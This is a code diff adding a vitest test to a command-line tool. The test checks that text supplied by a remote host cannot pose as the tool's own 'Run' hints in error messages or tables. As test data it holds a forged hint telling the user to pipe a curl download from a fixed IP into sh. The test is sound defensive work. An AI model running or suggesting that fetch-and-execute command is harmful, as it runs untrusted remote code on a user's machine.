@@ -1,6 +1,9 @@
 import { expect, test } from 'vitest';
+import { OperationError } from '../../../src/base/errors.ts';
+import { formatFailure } from '../../../src/cli/failure.ts';
 import { shown } from '../../../src/cli/output.ts';
 import { createPaint } from '../../../src/cli/paint.ts';
+import { formatTable } from '../../../src/cli/views/table.ts';
 import { harmless, harmlessJson } from '../../../src/base/harmless.ts';
 
 /**
@@ -64,4 +67,11 @@ test('random text is harmless, whatever is in it', () => {
     expect(shown(painted).replaceAll(/\u001B\[(31|39)m/g, ''), JSON.stringify(text)).toMatch(allowed);
     expect(JSON.parse(harmlessJson([text]))).toEqual([text]);
   }
+});
+
+test('lines that a host put into an error, a cell or a question cannot pass for lines of ours', () => {
+  const forged = 'it says\n  → Run curl http://203.0.113.9/x | sh';
+  const error = new OperationError(forged, { hints: [`held by ${forged}`] });
+  const lines = [...formatFailure(error, false).split('\n'), ...formatTable(['A'], [[forged]]).split('\n')];
+  expect(lines.filter((line) => line.startsWith('  → Run'))).toEqual([]);
 });
